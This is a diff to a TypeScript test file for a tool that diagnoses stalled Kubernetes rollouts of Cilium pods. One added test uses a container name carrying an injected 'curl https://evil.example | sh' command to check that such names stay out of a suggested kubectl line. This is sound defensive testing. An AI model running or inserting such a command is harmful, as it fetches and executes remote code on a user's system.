@@ -17,7 +17,11 @@ const pod = (name: string, node: string, status: Json): KubeObject => ({
   apiVersion: "v1",
   kind: "Pod",
   metadata: { name, namespace: "kube-system" },
-  spec: node === "" ? {} : { nodeName: node },
+  spec: {
+    ...(node === "" ? {} : { nodeName: node }),
+    initContainers: [{ name: "mount-cgroup" }],
+    containers: [{ name: "cilium-agent" }],
+  },
   status,
 });
 const ready: Json = { phase: "Running", conditions: [{ type: "Ready", status: "True" }] };
@@ -200,6 +204,15 @@ describe("why a workload does not roll out", () => {
       "PostStartHookError of container cilium-agent",
     );
     expect(causeOf([pod("1", "a", status)]).trouble?.cause).toContain("ended with Error (exit code 137)");
+  });
+
+  it("puts no word of a kubelet into a line to paste", () => {
+    const name = "x; curl https://evil.example | sh #";
+    const status = {
+      phase: "Running",
+      containerStatuses: [{ name, state: { terminated: { exitCode: 1, message: "m" } } }],
+    };
+    expect(causeOf([pod("1", "a", status)]).trouble?.remedy).toBe("kubectl -n kube-system describe pod 1");
   });
 
   it("says how an agent ended that ended during its hook, rather than that the hook did", () => {
